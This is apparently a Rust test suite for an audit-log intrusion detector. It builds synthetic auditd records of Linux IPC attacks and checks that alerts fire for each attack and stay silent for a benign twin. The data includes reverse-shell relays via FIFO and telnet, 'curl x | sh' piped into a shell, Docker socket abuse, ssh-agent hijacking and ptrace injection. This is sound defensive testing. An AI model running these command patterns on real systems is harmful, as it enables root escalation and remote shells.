//! The Linux behaviours on made-up audit logs: each story raises its behaviour and names who did it, and its benign
//! twin, which differs in one thing the behaviour asks for, stays silent.

use std::fmt::Write;

use ipcsentry::decode::Format;
use ipcsentry::{Catalogue, Engine, Limits, Policy, StreamOptions};
use serde_json::Value;

/// A process as audit records show it.
#[derive(Clone, Copy)]
struct Who {
    pid: u32,
    parent: u32,
    image: &'static str,
    uid: u32,
    login: u32,
}

const UNSET: u32 = u32::MAX;

const fn user(pid: u32, parent: u32, image: &'static str) -> Who {
    Who { pid, parent, image, uid: 1000, login: 1000 }
}

impl Who {
    const fn uid(self, uid: u32) -> Self {
        Self { uid, ..self }
    }

    const fn login(self, login: u32) -> Self {
        Self { login, ..self }
    }
}

/// An audit log in the making. Events are 10 ms apart.
#[derive(Default)]
struct Log {
    text: String,
    serial: u64,
    millis: u64,
}

impl Log {
    fn event(&mut self, who: Who, call: u32, exit: i64, args: [u64; 4], others: &[String]) -> &mut Self {
        self.serial += 1;
        self.millis += 10;
        let stamp = format!("audit({}.{:03}:{})", 1_700_000_000 + self.millis / 1000, self.millis % 1000, self.serial);
        let Who { pid, parent, image, uid, login } = who;
        let [a0, a1, a2, a3] = args;
        writeln!(
            self.text,
            "type=SYSCALL msg={stamp}: arch=c000003e syscall={call} success=yes exit={exit} a0={a0:x} a1={a1:x} \
             a2={a2:x} a3={a3:x} items=1 ppid={parent} pid={pid} auid={login} uid={uid} gid={uid} euid={uid} suid={uid} \
             fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=(none) ses={} comm=\"x\" exe=\"{image}\" key=\"k\"",
            if login == UNSET { UNSET } else { login % 100 }
        )
        .unwrap();
        for other in others {
            let (kind, fields) = other.split_once(' ').unwrap();
            writeln!(self.text, "type={kind} msg={stamp}: {fields}").unwrap();
        }
        self
    }

    fn wait(&mut self, seconds: u64) -> &mut Self {
        self.millis += seconds * 1000;
        self
    }

    fn exec(&mut self, who: Who, arguments: &[&str]) -> &mut Self {
        let mut record = format!("EXECVE argc={}", arguments.len());
        for (i, argument) in arguments.iter().enumerate() {
            let hex: String = argument.bytes().map(|b| format!("{b:02X}")).collect();
            write!(record, " a{i}={hex}").unwrap();
        }
        self.event(who, 59, 0, [1, 2, 3, 4], &[record])
    }

    fn socket(&mut self, who: Who, call: u32, name: &str, owner: u32) -> &mut Self {
        let hex: String = name.replace('@', "\0").bytes().map(|b| format!("{b:02X}")).collect();
        let mut others = vec![format!("SOCKADDR saddr=0100{hex}{}", if name.starts_with('@') { "" } else { "00" })];
        if !name.starts_with('@') {
            let role = if call == 49 { "CREATE" } else { "NORMAL" };
            others.push(format!(
                "PATH item=0 name=\"{name}\" inode=9 dev=00:01 mode=0140777 ouid={owner} ogid=0 rdev=00:00 nametype={role}"
            ));
        }
        self.event(who, call, 0, [3, 4, 16, 0], &others)
    }

    fn bind(&mut self, who: Who, name: &str) -> &mut Self {
        self.socket(who, 49, name, who.uid)
    }

    fn connect(&mut self, who: Who, name: &str, owner: u32) -> &mut Self {
        self.socket(who, 42, name, owner)
    }

    fn network(&mut self, who: Who) -> &mut Self {
        // 198.51.100.7:443
        self.event(who, 42, 0, [3, 4, 16, 0], &["SOCKADDR saddr=020001BBC63364070000000000000000".into()])
    }

    fn accept_network(&mut self, who: Who) -> &mut Self {
        self.event(who, 43, 4, [3, 4, 16, 0], &["SOCKADDR saddr=020001BBC63364070000000000000000".into()])
    }

    fn make_fifo(&mut self, who: Who, name: &str) -> &mut Self {
        self.event(who, 133, 0, [1, 0o010_644, 0, 0], &[fifo(name, who.uid, "CREATE")])
    }

    fn open_fifo(&mut self, who: Who, name: &str, writes: bool) -> &mut Self {
        self.event(who, 257, 3, [0xffff_ff9c, 1, u64::from(writes), 0], &[fifo(name, who.uid, "NORMAL")])
    }

    fn queue(&mut self, who: Who, name: &str, creates: bool) -> &mut Self {
        let role = if creates { "CREATE" } else { "NORMAL" };
        let path = format!(
            "PATH item=0 name=\"{name}\" inode=9 dev=00:13 mode=0100600 ouid={} ogid=0 rdev=00:00 nametype={role}",
            who.uid
        );
        self.event(who, 240, 3, [1, 2, 0, 0], &[path])
    }

    fn ptrace(&mut self, who: Who, request: u64, target: u32) -> &mut Self {
        self.event(who, 101, 0, [request, u64::from(target), 0, 0], &[])
    }

    fn alerts(&self) -> Vec<Value> {
        let mut engine = Engine::new(Catalogue::builtin(), Policy::default(), Limits::default());
        let stream = engine.open_stream(StreamOptions::new(Format::Auditd));
        let report = engine.feed_bytes(stream, self.text.as_bytes());
        engine.close_stream(stream);
        engine.flush();
        let _ = report;
        assert_eq!(engine.stats().decode_errors, 0, "{}", self.text);
        let mut alerts = Vec::new();
        while let Some(alert) = engine.poll_alert() {
            alerts.push(serde_json::from_str::<Value>(&alert.to_json()).unwrap());
        }
        alerts.retain(|a| a["severity"] != "low");
        alerts
    }

    /// The story raises this behaviour and names one of these images as the initiator.
    fn raises(&self, code: &str, initiator: &str) {
        let alerts = self.alerts();
        let named: Vec<_> = alerts.iter().filter(|a| a["code"] == code).collect();
        assert!(!named.is_empty(), "{code} not raised, but {:?}", codes(&alerts));
        let image = |a: &&Value| a["initiator"]["process"]["image"] == *initiator;
        assert!(named.iter().any(image), "{code} by {}, not {initiator}", named[0]["initiator"]);
    }

    fn is_silent(&self) {
        let alerts = self.alerts();
        assert!(alerts.is_empty(), "raised {:?}", codes(&alerts));
    }
}

fn fifo(name: &str, owner: u32, role: &str) -> String {
    format!("PATH item=0 name=\"{name}\" inode=8 dev=00:01 mode=010644 ouid={owner} ogid=0 rdev=00:00 nametype={role}")
}

fn codes(alerts: &[Value]) -> Vec<String> {
    alerts.iter().map(|a| format!("{} {} {}", a["code"], a["severity"], a["explanation"])).collect()
}

fn log() -> Log {
    Log::default()
}

const SH: &str = "/usr/bin/dash";

#[test]
fn container_runtime_by_a_foreign_client() {
    const SOCKET: &str = "/var/run/docker.sock";
    let create = ["wget", "--post-data={}", "http://x/containers/create?sock"];
    let client = user(20, 10, "/usr/bin/wget");
    log().exec(client, &create).connect(client, SOCKET, 0).raises("L01", "/usr/bin/wget");
    // A daemon account's interpreter that names the socket.
    let ruby = user(21, 11, "/usr/bin/ruby3.1").uid(33).login(UNSET);
    log()
        .exec(ruby, &["ruby", "-e", "UNIXSocket.new('/run/docker.sock')"])
        .connect(ruby, SOCKET, 0)
        .raises("L01", "/usr/bin/ruby3.1");
    // Twins: only the state is asked for; the runtime's own tool asks for a container.
    log().exec(client, &["wget", "http://x/version?sock"]).connect(client, SOCKET, 0).is_silent();
    let docker = user(22, 10, "/usr/local/bin/docker");
    log().exec(docker, &["docker", "run", "-v", "/:/host", "alpine"]).connect(docker, SOCKET, 0).is_silent();
}

#[test]
fn a_container_is_tied_to_who_asked_for_it() {
    let client = user(20, 10, "/usr/bin/ncat");
    let shim = user(30, 1, "/usr/bin/containerd-shim-runc-v2").uid(0).login(UNSET);
    let inside = user(31, 30, "/bin/busybox").uid(0).login(UNSET);
    let mut story = log();
    story.exec(client, &["ncat", "-U", "/run/docker.sock"]).connect(client, "/run/docker.sock", 0);
    story.exec(shim, &["containerd-shim"]).exec(inside, &["sh"]).raises("L01", "/usr/bin/ncat");
    // A test suite that starts containers through a library.
    let java = user(20, 10, "/usr/lib/jvm/bin/java");
    let mut twin = log();
    twin.exec(java, &["java", "-jar", "surefire.jar"]).connect(java, "/run/docker.sock", 0);
    twin.exec(shim, &["containerd-shim"]).exec(inside, &["sh"]).is_silent();
}

#[test]
fn shell_behind_a_socket() {
    let server = user(20, 10, "/usr/bin/php8.2");
    let client = user(21, 11, "/usr/bin/nc.openbsd");
    let shell = user(22, 20, SH);
    for name in ["/var/tmp/q", "@q"] {
        let mut story = log();
        story.exec(server, &["php", "q.php"]).bind(server, name).exec(client, &["nc", "-U", name]);
        story.connect(client, name, 1000).exec(shell, &["sh", "-i"]).raises("L03", "/usr/bin/nc.openbsd");
    }
    // Command by command instead of a shell.
    let mut story = log();
    story.exec(server, &["php", "q.php"]).bind(server, "/tmp/q").connect(client, "/tmp/q", 1000);
    story.exec(user(22, 20, SH), &["sh", "-c", "id"]).exec(user(23, 22, "/usr/bin/id"), &["id"]);
    story.exec(user(24, 20, SH), &["sh", "-c", "uname -a"]).exec(user(25, 24, "/usr/bin/uname"), &["uname", "-a"]);
    story.raises("L03", "/usr/bin/nc.openbsd");
    // Twins: the shell came before the client; one program of the daemon's own; a multiplexer.
    let mut early = log();
    early.exec(server, &["php", "q.php"]).bind(server, "/tmp/q").exec(shell, &["sh", "-i"]);
    early.connect(client, "/tmp/q", 1000).is_silent();
    let mut task = log();
    task.exec(server, &["php", "q.php"]).bind(server, "/tmp/q").connect(client, "/tmp/q", 1000);
    task.exec(shell, &["sh", "-c", "df -h"]).exec(user(23, 22, "/usr/bin/df"), &["df", "-h"]).is_silent();
    let tmux = user(20, 1, "/usr/bin/tmux");
    let mut twin = log();
    twin.exec(tmux, &["tmux"]).bind(tmux, "/tmp/mine").connect(user(21, 11, "/usr/bin/tmux"), "/tmp/mine", 1000);
    twin.exec(shell, &["sh"]).is_silent();
}

#[test]
fn known_socket_taken_over() {
    let squatter = user(20, 10, "/home/u/bin/x").uid(0);
    let docker = user(21, 11, "/usr/bin/docker");
    let mut story = log();
    story.exec(squatter, &["x"]).bind(squatter, "/run/docker.sock").connect(docker, "/run/docker.sock", 0);
    story.raises("L04", "/home/u/bin/x");
    // The daemon in an unusual place is still nobody a user could write.
    let daemon = user(20, 1, "/opt/docker/bin/dockerd").uid(0);
    log()
        .exec(daemon, &["dockerd"])
        .bind(daemon, "/run/docker.sock")
        .connect(docker, "/run/docker.sock", 0)
        .is_silent();
}

#[test]
fn shell_relayed_through_a_fifo() {
    let bash = |pid| user(pid, 20, "/usr/bin/bash");
    let relay = user(33, 20, "/usr/bin/telnet.netkit");
    let make = |story: &mut Log| {
        story.exec(user(20, 10, "/usr/bin/bash"), &["bash", "x.sh"]);
        story.make_fifo(user(30, 20, "/usr/bin/mkfifo"), "/var/tmp/q");
    };
    let mut story = log();
    make(&mut story);
    story.open_fifo(bash(31), "/var/tmp/q", true).open_fifo(bash(33), "/var/tmp/q", false);
    story.exec(user(31, 20, SH), &["sh", "-i"]).exec(relay, &["telnet", "198.51.100.7"]).network(relay);
    story.raises("L05", "/usr/bin/bash");
    // Opening is not logged.
    let mut blind = log();
    make(&mut blind);
    blind.exec(user(31, 20, SH), &["sh"]).exec(relay, &["telnet", "198.51.100.7"]).network(relay);
    blind.raises("L05", "/usr/bin/bash");
    // Twin: an archiver in the place of the shell.
    let mut twin = log();
    make(&mut twin);
    twin.open_fifo(bash(31), "/var/tmp/q", true).open_fifo(bash(33), "/var/tmp/q", false);
    twin.exec(user(31, 20, "/usr/bin/tar"), &["tar", "c", "."]).exec(relay, &["telnet", "198.51.100.7"]).network(relay);
    twin.is_silent();
    // Twin: a shell without the network.
    let mut local = log();
    make(&mut local);
    local.open_fifo(bash(31), "/var/tmp/q", true).open_fifo(bash(33), "/var/tmp/q", false);
    local.exec(user(31, 20, SH), &["sh"]).exec(user(33, 20, "/usr/bin/cat"), &["cat"]).is_silent();
}

#[test]
fn root_takes_commands_from_a_fifo() {
    let root = user(20, 1, "/usr/bin/bash").uid(0).login(UNSET);
    let writer = |uid| user(30, 10, "/usr/bin/bash").uid(uid);
    let story = |uid| {
        let mut story = log();
        story.exec(root, &["bash", "/opt/q.sh"]).open_fifo(root, "/srv/q", false);
        story.exec(writer(uid), &["bash"]).open_fifo(writer(uid), "/srv/q", true);
        story.exec(user(21, 20, SH).uid(0).login(UNSET), &["sh", "-c", "chmod u+s x"]);
        story
    };
    story(1000).raises("L06", "/usr/bin/bash");
    story(0).is_silent();
}

#[test]
fn daemon_pipes_a_download_into_a_shell() {
    let story = |above: &'static str| {
        let mut story = log();
        story.exec(user(10, 1, above), &[above]).exec(user(20, 10, SH), &["sh", "-c", "curl x | sh"]);
        story.exec(user(21, 20, "/usr/bin/curl"), &["curl", "x"]).exec(user(22, 20, SH), &["sh"]);
        story
    };
    story("/usr/sbin/apache2").raises("L07", "/usr/sbin/apache2");
    story("/usr/bin/gnome-terminal").is_silent();
}

#[test]
fn daemon_tasked_through_its_socket() {
    const SOCKET: &str = "/run/php/php8.2-fpm.sock";
    let fpm = user(20, 1, "/usr/sbin/php-fpm8.2").uid(33).login(UNSET);
    let story = |client: &'static str| {
        let client = user(30, 10, client);
        let mut story = log();
        story.exec(fpm, &["php-fpm"]).bind(fpm, SOCKET).exec(client, &["x"]).connect(client, SOCKET, 33);
        story.exec(user(21, 20, SH).uid(33).login(UNSET), &["sh", "-c", "id"]);
        story
    };
    story("/usr/bin/python3.11").raises("L08", "/usr/bin/python3.11");
    story("/usr/sbin/nginx").is_silent();
}

#[test]
fn agent_of_another_session() {
    let story = |login| {
        let agent = user(20, 1, "/usr/bin/ssh-agent").uid(1000).login(1000);
        let thief = user(30, 10, "/usr/bin/scp").uid(0).login(login);
        let mut story = log();
        story.exec(agent, &["ssh-agent"]).bind(agent, "/tmp/ssh-AbCd/agent.19");
        story.exec(thief, &["scp", "x", "h:"]).connect(thief, "/tmp/ssh-AbCd/agent.19", 1000);
        story
    };
    story(1001).raises("L09", "/usr/bin/scp");
    // Under sudo one's own agent stays one's own.
    story(1000).is_silent();
    let attach = |login| {
        let tmux = user(30, 10, "/usr/bin/tmux").uid(0).login(login);
        let mut story = log();
        story.exec(tmux, &["tmux", "-S", "/tmp/tmux-1000/default", "attach"]);
        story.connect(tmux, "/tmp/tmux-1000/default", 1000);
        story
    };
    attach(1001).raises("L09", "/usr/bin/tmux");
    attach(1000).is_silent();
}

#[test]
fn service_asked_over_the_bus() {
    let story = |method: &str| {
        let client = user(20, 10, "/usr/bin/gdbus");
        let mut story = log();
        let method = format!("org.freedesktop.systemd1.Manager.{method}");
        story.exec(client, &["gdbus", "call", "--system", "--method", &method]);
        story.connect(client, "/run/dbus/system_bus_socket", 0);
        story
    };
    story("StartTransientUnit").raises("L10", "/usr/bin/gdbus");
    story("ListUnits").is_silent();
    // What the service manager then starts belongs to the caller.
    let manager = user(1, 0, "/usr/lib/systemd/systemd").uid(0).login(UNSET);
    let mut started = story("StartTransientUnit");
    started.exec(manager, &["systemd"]).exec(user(50, 1, SH).uid(0).login(UNSET), &["sh", "-c", "x"]);
    let alerts = started.alerts();
    assert!(alerts.iter().any(|a| a["code"] == "L10" && a["severity"] == "high"), "{:?}", codes(&alerts));
}

#[test]
fn injected_process_opens_a_channel() {
    let victim = user(20, 10, "/usr/bin/sleep");
    let injector = |parent| user(30, parent, "/home/u/i");
    let story = |request, parent| {
        let mut story = log();
        story.exec(victim, &["sleep", "900"]).exec(injector(parent), &["i", "20"]);
        story.ptrace(injector(parent), 0x10, 20).ptrace(injector(parent), request, 20);
        story.connect(victim, "@q", 0);
        story
    };
    story(4, 11).raises("L12", "/home/u/i");
    // Twins: attached only; reading registers only.
    story(0x11, 11).is_silent();
    story(0xc, 11).is_silent();
    // A debugger that writes into what it attached to, which goes about its business; and one that makes it run a shell.
    let debugged = || {
        let gdb = user(31, 11, "/usr/bin/gdb");
        let mut story = log();
        story.exec(victim, &["sleep", "900"]).exec(gdb, &["gdb", "-p", "20"]);
        story.ptrace(gdb, 0x10, 20).ptrace(gdb, 0xd, 20).connect(victim, "@q", 0);
        story
    };
    debugged().is_silent();
    debugged().exec(user(21, 20, SH), &["sh", "-c", "id"]).raises("L12", "/usr/bin/gdb");
    // On its own child a debugger may do anything.
    let gdb = user(10, 1, "/usr/bin/gdb");
    let mut own = log();
    own.exec(gdb, &["gdb", "x"]).exec(victim, &["sleep"]).ptrace(gdb, 4, 20).ptrace(gdb, 0xd, 20);
    own.exec(user(21, 20, SH), &["sh", "-c", "id"]).is_silent();
}

#[test]
fn commands_from_a_queue() {
    let receiver = user(20, 10, "/usr/bin/perl");
    let sender = |parent| user(30, parent, "/usr/bin/ruby3.1");
    let story = |parent| {
        let mut story = log();
        story.exec(receiver, &["perl", "r.pl"]).queue(receiver, "q", true);
        story.exec(sender(parent), &["ruby", "s.rb"]).queue(sender(parent), "q", false);
        story.exec(user(21, 20, SH), &["sh", "-c", "id"]);
        story
    };
    story(11).raises("L14", "/usr/bin/ruby3.1");
    // A worker of the receiver's own.
    story(20).is_silent();
    let mut alone = log();
    alone.exec(receiver, &["perl", "r.pl"]).queue(receiver, "q", true).exec(user(21, 20, SH), &["sh", "-c", "id"]);
    alone.is_silent();
}

#[test]
fn code_loaded_into_a_runtime() {
    let java = user(20, 1, "/usr/lib/jvm/bin/java");
    let client = user(30, 10, "/usr/bin/python3.11");
    let mut story = log();
    story.exec(java, &["java", "-jar", "a.jar"]).bind(java, "/tmp/.java_pid20");
    story.exec(client, &["python3", "a.py"]).connect(client, "/tmp/.java_pid20", 1000);
    story.is_silent();
    story.exec(user(21, 20, SH), &["sh", "-c", "id"]).raises("L15", "/usr/bin/python3.11");
}

#[test]
fn abstract_channel_of_a_users_program() {
    let story = |image: &'static str| {
        let program = user(20, 10, image);
        let mut story = log();
        story.exec(program, &["x"]).connect(program, "@q", 0).exec(Who { image: SH, ..program }, &["sh"]);
        story
    };
    story("/dev/shm/x").raises("L16", SH);
    story("/usr/lib/x/x").is_silent();
}

#[test]
fn program_without_a_file_uses_channels() {
    let story = |image: &'static str, name: &str| {
        let loader = user(20, 10, "/usr/bin/perl");
        let program = user(20, 10, image);
        let mut story = log();
        story.exec(loader, &["perl", "l.pl"]).event(loader, 319, 3, [1, 0, 0, 0], &[]);
        story.exec(program, &["[kthread]"]).bind(program, name);
        story
    };
    // With a blank the kernel writes the path in hex.
    let hex = "2F6D656D66643A71202864656C6574656429";
    let mut memory = story("/usr/bin/placeholder", "/tmp/q");
    memory.text = memory.text.replace("exe=\"/usr/bin/placeholder\"", &format!("exe={hex}"));
    memory.raises("L18", "/memfd:q (deleted)");
    story("/usr/bin/ruby3.1", "/tmp/q").is_silent();
}

#[test]
fn root_equivalent_socket_relayed_to_the_network() {
    let listener = user(20, 10, "/usr/bin/socat");
    let worker = user(21, 20, "/usr/bin/socat");
    let story = |name: &str| {
        let mut story = log();
        story.exec(listener, &["socat", "TCP-LISTEN:2375,fork", "UNIX-CONNECT:x"]).accept_network(listener);
        story.connect(worker, name, 0);
        story
    };
    story("/run/docker.sock").raises("L19", "/usr/bin/socat");
    story("/tmp/app.sock").is_silent();
}

#[test]
fn sensor_falls_silent_after_its_socket_was_touched() {
    let client = user(20, 10, "/usr/bin/python3.11").uid(0);
    let story = |name: &str| {
        let mut story = log();
        story.exec(client, &["python3", "x.py"]).connect(client, name, 0).wait(5);
        story.text.push_str("type=DAEMON_END msg=audit(1700000009.000:99): op=terminate auid=1000 pid=1 res=success\n");
        story
    };
    story("/var/run/audispd_events").raises("L20", "/usr/bin/python3.11");
    story("/run/other.sock").is_silent();
}
